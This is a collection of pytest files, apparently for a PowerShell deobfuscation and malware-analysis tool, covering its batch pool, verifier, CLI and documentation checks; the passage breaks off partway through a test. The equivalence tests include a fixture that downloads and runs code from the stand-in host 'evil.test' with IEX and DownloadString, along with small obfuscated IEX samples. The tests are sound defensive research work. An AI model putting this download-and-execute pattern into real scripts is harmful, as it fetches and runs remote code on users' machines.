    def test_shrink_sheds_idle_workers(self, tmp_path):
        pool = BatchPool(jobs=3)
        try:
            pool.prestart()
            assert pool.worker_count == 3
            pool.resize(1)
            assert pool.jobs == 1
            assert pool.worker_count == 1
            # the surviving fleet still does work
            path = write_sample(tmp_path, "a.ps1", "write-host a")
            pool.submit(Task(path=path))
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "ok"
        finally:
            pool.close()

    def test_shrink_spares_busy_workers(self, tmp_path):
        from tests.batch.helpers import SLEEP_MARKER

        pool = BatchPool(jobs=2, worker=FAULTY)
        try:
            slow = write_sample(
                tmp_path, "slow.ps1", f"# {SLEEP_MARKER}\nwrite-host s"
            )
            pool.submit(Task(path=slow))
            pool.collect(timeout=0.2)  # let it dispatch
            busy = [
                worker_id
                for worker_id, state in pool._workers.items()
                if state.ticket is not None
            ]
            assert busy
            pool.resize(1)
            # the busy worker survives until its task completes
            assert busy[0] in pool._workers
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "ok"
        finally:
            pool.close()

    def test_resize_floors_at_one(self):
        pool = BatchPool(jobs=2)
        try:
            assert pool.resize(0) == 1
        finally:
            pool.close()
