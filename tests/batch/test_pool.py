"""Fault-containment tests for :mod:`repro.batch.pool`.

These use the fault-injecting workers in :mod:`tests.batch.helpers`
(addressed by spec string, so worker processes import them afresh) to
prove the pool's three guarantees: hung samples are killed on deadline,
a dying worker loses only its own sample, and crashed samples are
retried a bounded number of times.
"""

import pytest

from repro.batch import BatchPool, make_tasks, run_batch, summarize
from tests.batch.helpers import (
    CRASH_MARKER,
    CRASH_ONCE_MARKER,
    LOOP_MARKER,
)

FAULTY = "tests.batch.helpers:faulty_worker"
RAISING = "tests.batch.helpers:raising_worker"


@pytest.fixture
def corpus_dir(tmp_path):
    def make(samples):
        paths = []
        for name, content in samples.items():
            path = tmp_path / name
            path.write_text(content, encoding="utf-8")
            paths.append(str(path))
        return paths

    return make


def by_path(records):
    return {record["path"]: record for record in records}


class TestHappyPath:
    def test_all_ok(self, corpus_dir):
        paths = corpus_dir(
            {f"s{i}.ps1": f"write-host {i}" for i in range(6)}
        )
        records = run_batch(make_tasks(paths), jobs=2)
        assert len(records) == len(paths)
        assert all(r["status"] == "ok" for r in records)
        assert sorted(r["path"] for r in records) == sorted(paths)

    def test_empty_task_list(self):
        assert run_batch([], jobs=2) == []

    def test_invalid_input_reported(self, corpus_dir):
        paths = corpus_dir({"bad.ps1": "'unterminated"})
        (record,) = run_batch(make_tasks(paths), jobs=1)
        assert record["status"] == "invalid"

    def test_record_fields(self, corpus_dir):
        paths = corpus_dir({"s.ps1": "I`E`X ('wri'+'te-host hi')"})
        (record,) = run_batch(
            make_tasks(paths, store_script=True), jobs=1
        )
        assert record["status"] == "ok"
        assert record["changed"] is True
        assert record["script"].strip() == "Write-Host hi"
        assert record["size_bytes"] > 0
        assert len(record["sha256"]) == 64
        assert record["stats"]["pieces_recovered"] >= 1


class TestTimeout:
    def test_hung_sample_killed_without_stalling_pool(self, corpus_dir):
        samples = {f"ok{i}.ps1": f"write-host {i}" for i in range(4)}
        samples["hang.ps1"] = f"# {LOOP_MARKER}\nwhile ($true) {{ }}"
        paths = corpus_dir(samples)
        records = run_batch(
            make_tasks(paths),
            jobs=2,
            timeout=0.3,
            kill_grace=0.1,
            worker=FAULTY,
        )
        assert len(records) == 5
        got = by_path(records)
        hung = [p for p in paths if p.endswith("hang.ps1")][0]
        assert got[hung]["status"] == "timeout"
        assert got[hung]["graceful"] is False
        others = [got[p] for p in paths if p != hung]
        assert all(r["status"] == "ok" for r in others)

    def test_timeout_not_retried(self, corpus_dir):
        paths = corpus_dir({"hang.ps1": f"# {LOOP_MARKER}"})
        (record,) = run_batch(
            make_tasks(paths),
            jobs=1,
            timeout=0.2,
            kill_grace=0.1,
            retries=3,
            worker=FAULTY,
        )
        assert record["status"] == "timeout"
        assert record["attempts"] == 1

    def test_graceful_timeout_via_pipeline_deadline(self, corpus_dir):
        paths = corpus_dir({"s.ps1": "iex 'iex ''write-host x'''"})
        (record,) = run_batch(
            make_tasks(paths, deadline_seconds=0.0), jobs=1, timeout=30.0
        )
        assert record["status"] == "timeout"
        assert record["graceful"] is True


class TestCrashIsolation:
    def test_crash_marks_only_that_sample(self, corpus_dir):
        samples = {f"ok{i}.ps1": f"write-host {i}" for i in range(4)}
        samples["boom.ps1"] = f"# {CRASH_MARKER}"
        paths = corpus_dir(samples)
        records = run_batch(
            make_tasks(paths), jobs=2, retries=1, worker=FAULTY
        )
        assert len(records) == 5
        got = by_path(records)
        boom = [p for p in paths if p.endswith("boom.ps1")][0]
        assert got[boom]["status"] == "error"
        assert "exit code" in got[boom]["error"]
        # retried once (attempt 1 + 1 retry), then recorded
        assert got[boom]["attempts"] == 2
        assert all(
            got[p]["status"] == "ok" for p in paths if p != boom
        )

    def test_crash_retry_can_succeed(self, corpus_dir):
        paths = corpus_dir({"flaky.ps1": f"# {CRASH_ONCE_MARKER}"})
        (record,) = run_batch(
            make_tasks(paths), jobs=1, retries=1, worker=FAULTY
        )
        assert record["status"] == "ok"
        assert record["attempts"] == 2

    def test_zero_retries(self, corpus_dir):
        paths = corpus_dir({"boom.ps1": f"# {CRASH_MARKER}"})
        (record,) = run_batch(
            make_tasks(paths), jobs=1, retries=0, worker=FAULTY
        )
        assert record["status"] == "error"
        assert record["attempts"] == 1

    def test_worker_exception_is_error_not_crash(self, corpus_dir):
        paths = corpus_dir({"s.ps1": "write-host hi"})
        (record,) = run_batch(make_tasks(paths), jobs=1, worker=RAISING)
        assert record["status"] == "error"
        assert "synthetic failure" in record["error"]
        # the process survived, so no retry was needed
        assert record["attempts"] == 1


class TestSummaryIntegration:
    def test_counts_add_up(self, corpus_dir):
        samples = {f"ok{i}.ps1": f"write-host {i}" for i in range(3)}
        samples["boom.ps1"] = f"# {CRASH_MARKER}"
        samples["hang.ps1"] = f"# {LOOP_MARKER}"
        samples["bad.ps1"] = "'unterminated"
        paths = corpus_dir(samples)
        records = run_batch(
            make_tasks(paths),
            jobs=3,
            timeout=0.3,
            kill_grace=0.1,
            retries=0,
            worker=FAULTY,
        )
        summary = summarize(records, wall_seconds=1.0)
        counts = summary["status_counts"]
        assert summary["total"] == len(paths) == sum(counts.values())
        assert counts == {
            "ok": 3, "invalid": 1, "timeout": 1, "error": 1,
        }
        assert summary["throughput_scripts_per_second"] == len(paths)
