"""Cross-module integration tests: the full corpus → tool → measurement
loop that the benchmarks rely on, in miniature."""

import random

import pytest

from repro import Deobfuscator, deobfuscate
from repro.analysis import extract_key_info, observe_behavior
from repro.verify import same_network_behavior
from repro.baselines import ALL_BASELINES
from repro.dataset import generate_corpus, preprocess
from repro.dataset.generator import generate_sample
from repro.pslang.parser import try_parse
from repro.scoring import score_script


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(25, seed=1234, guard_fraction=0.4)


class TestCorpusRoundTrip:
    def test_outputs_always_parse(self, corpus):
        tool = Deobfuscator()
        for sample in corpus:
            result = tool.deobfuscate(sample.script)
            ast, error = try_parse(result.script)
            assert ast is not None, (sample.identifier, error)

    def test_deobfuscation_never_raises(self, corpus):
        tool = Deobfuscator()
        for sample in corpus:
            tool.deobfuscate(sample.script)  # must not raise

    def test_behavior_preserved_on_all_networked(self, corpus):
        tool = Deobfuscator()
        for sample in corpus:
            report = observe_behavior(sample.script)
            if not report.has_network_behavior:
                continue
            result = tool.deobfuscate(sample.script)
            assert same_network_behavior(
                sample.script, result.script
            ), sample.identifier

    def test_score_never_increases(self, corpus):
        tool = Deobfuscator()
        for sample in corpus:
            before = score_script(sample.script).score
            after = score_script(
                tool.deobfuscate(sample.script).script
            ).score
            assert after <= before, sample.identifier

    def test_split_urls_reassembled(self):
        sample = generate_sample(
            "x",
            random.Random(5),
            skeleton_name="string_builder",
            layer_depth=1,
        )
        result = deobfuscate(sample.script)
        info = extract_key_info(result.script)
        assert sample.truth.urls <= info.urls


class TestBaselinesOnCorpus:
    @pytest.mark.parametrize("tool_class", ALL_BASELINES)
    def test_baselines_never_raise(self, corpus, tool_class):
        tool = tool_class()
        for sample in corpus[:10]:
            tool.deobfuscate(sample.script)

    def test_ours_dominates_baselines_on_urls(self, corpus):
        our_tool = Deobfuscator()
        our_hits = 0
        best_baseline_hits = 0
        for tool_class in ALL_BASELINES:
            tool = tool_class()
            hits = 0
            for sample in corpus:
                truth = sample.truth.urls if sample.truth else set()
                found = extract_key_info(
                    tool.deobfuscate(sample.script).script
                ).urls
                hits += len(found & truth)
            best_baseline_hits = max(best_baseline_hits, hits)
        for sample in corpus:
            truth = sample.truth.urls if sample.truth else set()
            found = extract_key_info(
                our_tool.deobfuscate(sample.script).script
            ).urls
            our_hits += len(found & truth)
        assert our_hits >= best_baseline_hits


class TestPreprocessIntegration:
    def test_full_pipeline(self):
        corpus = generate_corpus(
            20, seed=9, duplicate_fraction=0.3, junk_fraction=0.2
        )
        kept, stats = preprocess(corpus)
        assert stats.kept >= 18
        tool = Deobfuscator()
        for sample in kept[:5]:
            result = tool.deobfuscate(sample.script)
            assert result.valid_input


class TestIdempotence:
    """Deobfuscating twice must change nothing the second time."""

    @pytest.mark.parametrize("seed", [3, 17, 99])
    def test_fixpoint(self, seed):
        sample = generate_sample("x", random.Random(seed))
        tool = Deobfuscator()
        once = tool.deobfuscate(sample.script).script
        twice = tool.deobfuscate(once).script
        assert twice == once
