"""Docs drift guards.

``docs/cli.md`` must document every subcommand ``repro.cli`` registers
(this is the check CI runs as its "docs" step), the CLI module
docstring must not drift from the registered command set again, and
the non-standard exit codes each command actually returns must stay
documented where users look for them.
"""

import argparse
import os
import re

from repro.cli import build_parser

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CLI_DOC = os.path.join(REPO_ROOT, "docs", "cli.md")


def _cli_doc_section(doc: str, command: str) -> str:
    marker = f"## `repro {command}"
    assert marker in doc, f"docs/cli.md lacks a section for {command}"
    section = doc.split(marker, 1)[1]
    follow = re.search(r"\n## ", section)
    return section[: follow.start()] if follow else section


def registered_subcommands():
    parser = build_parser()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            return sorted(action.choices)
    raise AssertionError("no subparsers registered")


def test_cli_doc_exists():
    assert os.path.exists(CLI_DOC), "docs/cli.md is missing"


def test_every_subcommand_documented():
    with open(CLI_DOC, "r", encoding="utf-8") as handle:
        doc = handle.read()
    missing = [
        command
        for command in registered_subcommands()
        if f"## `repro {command}" not in doc
    ]
    assert not missing, (
        f"docs/cli.md lacks a '## `repro <cmd>`' section for: {missing}"
    )


def test_module_docstring_mentions_every_subcommand():
    import repro.cli

    doc = repro.cli.__doc__
    missing = [
        command
        for command in registered_subcommands()
        if f"\n{command} " not in doc and f"\n{command}\n" not in doc
    ]
    assert not missing, (
        f"repro.cli module docstring omits commands: {missing}"
    )


def test_readme_links_docs():
    with open(os.path.join(REPO_ROOT, "README.md"), encoding="utf-8") as f:
        readme = f.read()
    assert "docs/cli.md" in readme
    assert "docs/architecture.md" in readme


def test_exit_codes_documented():
    """Every non-standard exit code stays documented in its section.

    The CLI's error-signalling contract: batch exits 3 when samples
    errored, verify --fail-on-divergent exits 4, trace --check exits 5.
    CI scripts key on these numbers, so docs drift here breaks users
    silently.
    """
    with open(CLI_DOC, "r", encoding="utf-8") as handle:
        doc = handle.read()
    expectations = {
        "batch": "`3` at least one `error` sample",
        "verify": "exit `4` on a `divergent` verdict",
        "trace": "`5` when `--check` found problems",
    }
    for command, sentence in expectations.items():
        section = _cli_doc_section(doc, command)
        assert sentence in section, (
            f"docs/cli.md section for 'repro {command}' no longer "
            f"documents its exit code: expected {sentence!r}"
        )


def test_sandbox_doc_cross_linked():
    """The sandbox-policy doc exists, names every preset, and the
    surfaces that take a policy point at it."""
    sandbox = os.path.join(REPO_ROOT, "docs", "sandbox.md")
    assert os.path.exists(sandbox), "docs/sandbox.md is missing"
    with open(sandbox, encoding="utf-8") as handle:
        sandbox_text = handle.read()
    from repro.policy import PRESET_NAMES

    for preset in PRESET_NAMES:
        assert f"`{preset}`" in sandbox_text, (
            f"docs/sandbox.md does not document preset {preset}"
        )
    assert "repro_policy_denials_total" in sandbox_text
    with open(CLI_DOC, encoding="utf-8") as handle:
        doc = handle.read()
    for command in ("deobfuscate", "batch", "serve", "verify", "behavior"):
        section = _cli_doc_section(doc, command)
        assert "--policy" in section and "sandbox.md" in section, (
            f"docs/cli.md section for 'repro {command}' must document "
            "--policy and link docs/sandbox.md"
        )
    for name in ("architecture.md", "verify.md"):
        with open(os.path.join(REPO_ROOT, "docs", name),
                  encoding="utf-8") as handle:
            assert "sandbox.md" in handle.read(), (
                f"docs/{name} lost its docs/sandbox.md cross-link"
            )


def test_frontend_doc_cross_linked():
    """The front-end doc exists, names every registered language (and
    its aliases), and the surfaces that take ``--language`` point at
    it."""
    frontends = os.path.join(REPO_ROOT, "docs", "frontends.md")
    assert os.path.exists(frontends), "docs/frontends.md is missing"
    with open(frontends, encoding="utf-8") as handle:
        frontends_text = handle.read()
    from repro.frontend import available_frontends

    for frontend in available_frontends():
        assert f"`{frontend.id}`" in frontends_text, (
            f"docs/frontends.md does not document front end "
            f"{frontend.id}"
        )
        for alias in frontend.aliases:
            assert f"`{alias}`" in frontends_text, (
                f"docs/frontends.md omits alias {alias!r} of "
                f"{frontend.id}"
            )
    with open(CLI_DOC, encoding="utf-8") as handle:
        doc = handle.read()
    for command in ("deobfuscate", "batch", "serve", "verify",
                    "languages"):
        section = _cli_doc_section(doc, command)
        assert "frontends.md" in section, (
            f"docs/cli.md section for 'repro {command}' must link "
            "docs/frontends.md"
        )
    for command in ("deobfuscate", "batch", "serve", "verify", "fleet"):
        section = _cli_doc_section(doc, command)
        assert "--language" in section, (
            f"docs/cli.md section for 'repro {command}' must document "
            "--language"
        )
    arch = os.path.join(REPO_ROOT, "docs", "architecture.md")
    with open(arch, encoding="utf-8") as handle:
        assert "frontends.md" in handle.read(), (
            "docs/architecture.md lost its docs/frontends.md cross-link"
        )


def test_observability_doc_cross_linked():
    """The telemetry surfaces stay documented and cross-linked: the
    event-log schema and /statusz sections in observability.md, the
    `repro top` / `repro logs` sections in cli.md, and the journal
    drop counter in service.md."""
    obs = os.path.join(REPO_ROOT, "docs", "observability.md")
    with open(obs, encoding="utf-8") as handle:
        obs_text = handle.read()
    assert "## Structured event log" in obs_text
    assert "## Rolling windows and `/statusz`" in obs_text
    assert "schema_version" in obs_text
    assert "tests/obs/golden/log_events.jsonl" in obs_text
    for name in ("repro top", "repro logs"):
        assert name in obs_text, (
            f"docs/observability.md never mentions '{name}'"
        )
    with open(CLI_DOC, encoding="utf-8") as handle:
        doc = handle.read()
    top = _cli_doc_section(doc, "top")
    assert "--once" in top and "/statusz" in top
    assert "observability.md" in top
    logs = _cli_doc_section(doc, "logs")
    for flag in ("--level", "--logger", "--trace", "--follow"):
        assert flag in logs, (
            f"docs/cli.md 'repro logs' section lost {flag}"
        )
    assert "observability.md" in logs
    for command in ("serve", "fleet"):
        section = _cli_doc_section(doc, command)
        assert "--log-file" in section and "/statusz" in section, (
            f"docs/cli.md 'repro {command}' must document --log-file "
            "and /statusz"
        )
    service = os.path.join(REPO_ROOT, "docs", "service.md")
    with open(service, encoding="utf-8") as handle:
        assert (
            "repro_service_cache_journal_dropped_total"
            in handle.read()
        )


def test_performance_doc_cross_linked():
    """The performance handbook exists and the profiling surfaces
    point at it (and at the architecture hot-path map)."""
    perf = os.path.join(REPO_ROOT, "docs", "performance.md")
    assert os.path.exists(perf), "docs/performance.md is missing"
    with open(CLI_DOC, encoding="utf-8") as handle:
        assert "performance.md" in handle.read()
    obs = os.path.join(REPO_ROOT, "docs", "observability.md")
    with open(obs, encoding="utf-8") as handle:
        assert "performance.md" in handle.read()
    arch = os.path.join(REPO_ROOT, "docs", "architecture.md")
    with open(arch, encoding="utf-8") as handle:
        arch_text = handle.read()
    assert "## Hot paths" in arch_text
    assert "performance.md" in arch_text
    with open(perf, encoding="utf-8") as handle:
        perf_text = handle.read()
    assert "BENCH_pipeline.json" in perf_text
    assert "architecture.md#hot-paths" in perf_text
