"""Docs drift guards.

``docs/cli.md`` must document every subcommand ``repro.cli`` registers
(this is the check CI runs as its "docs" step), and the CLI module
docstring must not drift from the registered command set again.
"""

import argparse
import os

from repro.cli import build_parser

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CLI_DOC = os.path.join(REPO_ROOT, "docs", "cli.md")


def registered_subcommands():
    parser = build_parser()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            return sorted(action.choices)
    raise AssertionError("no subparsers registered")


def test_cli_doc_exists():
    assert os.path.exists(CLI_DOC), "docs/cli.md is missing"


def test_every_subcommand_documented():
    with open(CLI_DOC, "r", encoding="utf-8") as handle:
        doc = handle.read()
    missing = [
        command
        for command in registered_subcommands()
        if f"## `repro {command}" not in doc
    ]
    assert not missing, (
        f"docs/cli.md lacks a '## `repro <cmd>`' section for: {missing}"
    )


def test_module_docstring_mentions_every_subcommand():
    import repro.cli

    doc = repro.cli.__doc__
    missing = [
        command
        for command in registered_subcommands()
        if f"\n{command} " not in doc and f"\n{command}\n" not in doc
    ]
    assert not missing, (
        f"repro.cli module docstring omits commands: {missing}"
    )


def test_readme_links_docs():
    with open(os.path.join(REPO_ROOT, "README.md"), encoding="utf-8") as f:
        readme = f.read()
    assert "docs/cli.md" in readme
    assert "docs/architecture.md" in readme
