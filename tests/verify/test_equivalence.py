"""The differential comparator: all three verdicts plus normalization."""

from repro import Deobfuscator
from repro.verify import (
    VerifyVerdict,
    normalized_signature,
    verify_equivalence,
    verify_result,
)
from repro.verify.normalize import canonical_path, canonical_url

DOWNLOADER = (
    "$c = New-Object Net.WebClient\n"
    "IEX ($c.DownloadString('http://evil.test/payload'))\n"
    "Write-Host ('do'+'ne')\n"
)


class TestEquivalentVerdict:
    def test_identical_scripts_are_equivalent(self):
        verdict = verify_equivalence(DOWNLOADER, DOWNLOADER)
        assert verdict.verdict == "equivalent"
        assert verdict.equivalent
        assert verdict.diff == ()

    def test_deobfuscation_computation_is_ignored(self):
        # The candidate drops the string concatenation and the mixed
        # casing — internal computation — but keeps the behaviour.
        candidate = (
            "$c = New-Object Net.WebClient\n"
            "IEX ($c.DownloadString('HTTP://EVIL.TEST/payload'))\n"
            "Write-Host done\n"
        )
        verdict = verify_equivalence(DOWNLOADER, candidate)
        assert verdict.verdict == "equivalent", verdict.to_dict()

    def test_retry_loops_collapse(self):
        retry = (
            "$c = New-Object Net.WebClient\n"
            "foreach ($i in 1..3) { "
            "$c.DownloadString('http://evil.test/payload') }\n"
        )
        single = (
            "$c = New-Object Net.WebClient\n"
            "$c.DownloadString('http://evil.test/payload')\n"
        )
        verdict = verify_equivalence(retry, single)
        assert verdict.verdict == "equivalent", verdict.to_dict()

    def test_real_pipeline_preserves_semantics(self):
        obfuscated = "I`E`X ('wri'+'te-host hi')"
        result = Deobfuscator().deobfuscate(obfuscated)
        verdict = verify_result(result)
        assert verdict.verdict == "equivalent", verdict.to_dict()


class TestDivergentVerdict:
    def test_lost_behavior_is_divergent_with_diff(self):
        # Deterministic divergence fixture: the "deobfuscation"
        # dropped the download and changed the output.
        broken = "Write-Host nothing\n"
        verdict = verify_equivalence(DOWNLOADER, broken)
        assert verdict.verdict == "divergent"
        assert verdict.reason
        assert any(line.startswith("- effect:net.download_string")
                   for line in verdict.diff)
        assert any(line.startswith("+ output:") for line in verdict.diff)

    def test_unparseable_candidate_is_divergent(self):
        verdict = verify_equivalence("Write-Host hi", "Write-Host hi {{{")
        assert verdict.verdict == "divergent"
        assert "does not parse" in verdict.reason

    def test_diff_is_bounded(self):
        original = "\n".join(
            f"Write-Host line{i}" for i in range(40)
        )
        verdict = verify_equivalence(original, "Write-Host other")
        assert verdict.verdict == "divergent"
        assert len(verdict.diff) <= 9  # max_diff entries + ellipsis line


class TestInconclusiveVerdict:
    def test_step_limit_is_inconclusive(self):
        loop = "while ($true) { $x = 1 }"
        verdict = verify_equivalence(loop, loop, step_limit=200)
        assert verdict.verdict == "inconclusive"
        assert "step limit" in verdict.reason

    def test_invalid_original_is_inconclusive(self):
        verdict = verify_equivalence("Write-Host hi {{{", "Write-Host hi")
        assert verdict.verdict == "inconclusive"
        assert "original" in verdict.reason

    def test_invalid_input_result_is_inconclusive(self):
        result = Deobfuscator().deobfuscate("Write-Host hi {{{")
        assert not result.valid_input
        verdict = verify_result(result)
        assert verdict.verdict == "inconclusive"


class TestVerifyResultFastPath:
    def test_unchanged_script_short_circuits(self):
        from repro.core.pipeline import DeobfuscationResult

        result = DeobfuscationResult(
            original="Write-Host hi", script="Write-Host hi"
        )
        verdict = verify_result(result)
        assert verdict.verdict == "equivalent"
        assert "unchanged" in verdict.reason


class TestVerdictSerialization:
    def test_round_trip(self):
        verdict = verify_equivalence(DOWNLOADER, "Write-Host x")
        rebuilt = VerifyVerdict.from_dict(verdict.to_dict())
        assert rebuilt.verdict == verdict.verdict
        assert rebuilt.diff == verdict.diff
        assert rebuilt.reason == verdict.reason

    def test_to_dict_drops_empty_fields(self):
        data = VerifyVerdict(verdict="equivalent").to_dict()
        assert "diff" not in data
        assert "reason" not in data
        assert data["verdict"] == "equivalent"


class TestNormalization:
    def test_url_canonicalization(self):
        assert canonical_url("HTTP://EVIL.Test:80/Payload/") == (
            "http://evil.test/Payload"
        )
        assert canonical_url("https://a.test:443/x") == "https://a.test/x"

    def test_path_canonicalization(self):
        assert canonical_path('  "C:\\\\Temp\\\\x.PS1" ') == "c:\\temp\\x.ps1"
        assert canonical_path("C:/Temp/x.ps1") == "c:\\temp\\x.ps1"

    def test_signature_keeps_only_observable_kinds(self):
        from repro.runtime.host import BehaviorEvent

        events = [
            BehaviorEvent(kind="command", name="iex"),
            BehaviorEvent(kind="member", name="x.decode"),
            BehaviorEvent(kind="effect", name="net.tcp_connect",
                          arguments=("evil.test:443",)),
            BehaviorEvent(kind="output", name="console",
                          arguments=("hi  ",)),
        ]
        signature = normalized_signature(events)
        assert [entry[0] for entry in signature] == ["effect", "output"]
        # trailing whitespace stripped from output text
        assert signature[1][2] == ("hi",)
