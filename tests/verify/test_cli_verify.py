"""``repro verify`` and ``repro batch --verify``."""

import json

import pytest

from repro.cli import main


@pytest.fixture
def script_file(tmp_path):
    def make(content: str, name: str = "sample.ps1"):
        path = tmp_path / name
        path.write_text(content, encoding="utf-8")
        return str(path)

    return make


def run_cli(argv, capsys):
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


class TestVerifyCommand:
    def test_equivalent_run(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["verify", path], capsys)
        assert code == 0
        assert "verdict   : equivalent" in out

    def test_json_output(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["verify", "--json", path], capsys)
        assert code == 0
        payload = json.loads(out)
        assert payload["verdict"] == "equivalent"
        assert payload["changed"] is True
        assert "seconds" in payload

    def test_fail_on_divergent_exits_4(self, script_file, capsys,
                                        monkeypatch):
        import repro.verify
        from repro.verify import VerifyVerdict

        monkeypatch.setattr(
            repro.verify, "verify_result",
            lambda result, **kwargs: VerifyVerdict(
                verdict="divergent", reason="forced", diff=("- x",)
            ),
        )
        path = script_file("Write-Host hi")
        code, out, err = run_cli(
            ["verify", "--fail-on-divergent", path], capsys
        )
        assert code == 4
        assert "divergent" in out
        # without the flag the same verdict exits 0
        code, out, err = run_cli(["verify", path], capsys)
        assert code == 0

    def test_inconclusive_on_unparseable_input(self, script_file, capsys):
        path = script_file("'unterminated")
        code, out, err = run_cli(["verify", path], capsys)
        assert code == 0
        assert "verdict   : inconclusive" in out


class TestBatchVerify:
    def test_records_carry_verdicts_and_summary_aggregates(
        self, tmp_path, capsys
    ):
        for index in range(3):
            (tmp_path / f"s{index}.ps1").write_text(
                f"I`E`X ('wri'+'te-host hi{index}')", encoding="utf-8"
            )
        out_file = tmp_path / "out.jsonl"
        code = main([
            "batch", str(tmp_path), "--verify", "--jobs", "1",
            "--output", str(out_file),
        ])
        captured = capsys.readouterr()
        assert code == 0
        records = [
            json.loads(line)
            for line in out_file.read_text(encoding="utf-8").splitlines()
        ]
        samples = [r for r in records if "kind" not in r]
        assert len(samples) == 3
        for record in samples:
            assert record["verify"]["verdict"] == "equivalent"
            assert record["stats"]["verify"] == {"equivalent": 1}
        assert "verify    : equivalent=3" in captured.out

    def test_without_flag_records_have_no_verdict(self, tmp_path):
        (tmp_path / "s.ps1").write_text("Write-Host hi", encoding="utf-8")
        out_file = tmp_path / "out.jsonl"
        code = main([
            "batch", str(tmp_path), "--jobs", "1",
            "--output", str(out_file),
        ])
        assert code == 0
        records = [
            json.loads(line)
            for line in out_file.read_text(encoding="utf-8").splitlines()
            if "kind" not in json.loads(line)
        ]
        assert all("verify" not in record for record in records)
