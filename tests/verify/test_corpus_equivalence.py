"""Acceptance: the verifier over a generated corpus.

``repro batch --verify`` over the example corpus must judge ≥95% of
samples equivalent, crash nothing, and attach a reason or diff to every
non-equivalent verdict (the paper's Table IV behavioural-consistency
experiment, upgraded to ordered event logs).
"""

from repro.batch.task import make_tasks, run_one
from repro.dataset import generate_corpus

CORPUS_SIZE = 24


class TestCorpusEquivalence:
    def test_corpus_verifies_equivalent(self, tmp_path):
        corpus = generate_corpus(CORPUS_SIZE, seed=2022)
        paths = []
        for sample in corpus:
            path = tmp_path / f"{sample.identifier}.ps1"
            path.write_text(sample.script, encoding="utf-8")
            paths.append(str(path))

        records = [
            run_one(task)
            for task in make_tasks(paths, verify=True)
        ]

        assert len(records) == CORPUS_SIZE  # no crashes
        verdicts = [record["verify"]["verdict"] for record in records]
        equivalent = verdicts.count("equivalent")
        assert equivalent / len(verdicts) >= 0.95, (
            f"only {equivalent}/{len(verdicts)} equivalent: "
            + str([
                (record["path"], record["verify"])
                for record in records
                if record["verify"]["verdict"] != "equivalent"
            ])
        )
        for record in records:
            verdict = record["verify"]
            if verdict["verdict"] == "divergent":
                assert verdict.get("diff") or verdict.get("reason")
            if verdict["verdict"] == "inconclusive":
                assert verdict.get("reason")

    def test_verify_verdicts_aggregate_in_stats(self, tmp_path):
        sample = tmp_path / "one.ps1"
        sample.write_text("I`E`X ('wri'+'te-host hi')", encoding="utf-8")
        record = run_one(make_tasks([str(sample)], verify=True)[0])
        assert record["stats"]["verify"] == {"equivalent": 1}
        assert record["verify"]["verdict"] == "equivalent"
