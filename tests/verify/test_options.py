"""PipelineOptions: the typed options record.

Round-trips the same option set through every surface that carries it:
the dataclass itself, CLI flags, batch task payloads (JSONL), and the
service request body shape.  The legacy alias / ``**kwargs`` shims are
gone: every boundary is strict now, and the ``policy`` field rides all
of them.
"""

import argparse
import json

import pytest

from repro import Deobfuscator, PipelineOptions
from repro.options import DEFAULT_MAX_ITERATIONS
from repro.policy import PolicyError


class TestConstruction:
    def test_defaults(self):
        opts = PipelineOptions()
        assert opts.rename and opts.reformat and opts.enforce_blocklist
        assert opts.max_iterations == DEFAULT_MAX_ITERATIONS
        assert opts.deadline_seconds is None
        assert opts.policy == "recovery-strict"

    def test_frozen(self):
        with pytest.raises(Exception):
            PipelineOptions().rename = False

    def test_replace_derives_variant(self):
        opts = PipelineOptions().replace(rename=False)
        assert not opts.rename
        assert PipelineOptions().rename  # original untouched

    def test_from_dict_rejects_unknown_keys(self):
        with pytest.raises(TypeError, match="unknown pipeline option"):
            PipelineOptions.from_dict({"no_such_option": 1})

    def test_legacy_aliases_are_gone(self):
        # The one-release alias window ("timeout", "blocklist", ...)
        # is closed: old spellings are unknown keys now.
        with pytest.raises(TypeError, match="unknown pipeline option"):
            PipelineOptions.from_dict({"timeout": 5.0})

    def test_from_dict_ignore_unknown(self):
        opts = PipelineOptions.from_dict(
            {"rename": False, "no_such_option": 1}, ignore_unknown=True
        )
        assert not opts.rename

    def test_policy_name_normalized(self):
        opts = PipelineOptions(policy="Verify_Observing")
        assert opts.policy == "verify-observing"

    def test_unknown_policy_rejected_at_boundary(self):
        with pytest.raises(PolicyError, match="unknown policy"):
            PipelineOptions(policy="no-such-policy")

    def test_from_dict_policy_none_means_default(self):
        opts = PipelineOptions.from_dict({"policy": None})
        assert opts.policy == "recovery-strict"


class TestStrictConstructor:
    def test_deobfuscator_rejects_kwargs(self):
        # The kwargs shim is retired: options travel as a typed record.
        with pytest.raises(TypeError):
            Deobfuscator(rename=False)

    def test_options_object(self):
        tool = Deobfuscator(options=PipelineOptions(rename=False))
        assert tool.options.rename is False


class TestRoundTrips:
    def test_dict_round_trip(self):
        opts = PipelineOptions(rename=False, deadline_seconds=3.0,
                               max_iterations=4,
                               policy="wild-sample-paranoid")
        assert PipelineOptions.from_dict(opts.to_dict()) == opts
        assert PipelineOptions.from_dict(opts.canonical_dict()) == opts

    def test_cli_flag_round_trip(self):
        opts = PipelineOptions(rename=False, reformat=False,
                               deadline_seconds=2.0)
        flags = opts.to_cli_flags()
        parser = argparse.ArgumentParser()
        parser.add_argument("--no-rename", action="store_true")
        parser.add_argument("--no-reformat", action="store_true")
        parser.add_argument("--timeout", type=float, default=None)
        args = parser.parse_args(flags)
        assert PipelineOptions.from_cli_args(args) == opts

    def test_real_cli_parser_round_trip(self):
        from repro.cli import build_parser

        opts = PipelineOptions(rename=False, deadline_seconds=1.5,
                               policy="verify-observing")
        args = build_parser().parse_args(
            ["deobfuscate", "x.ps1"] + opts.to_cli_flags()
        )
        assert PipelineOptions.from_cli_args(args) == opts

    def test_batch_jsonl_round_trip(self):
        from repro.batch.task import make_tasks

        opts = PipelineOptions(rename=False, deadline_seconds=2.0,
                               policy="wild-sample-paranoid")
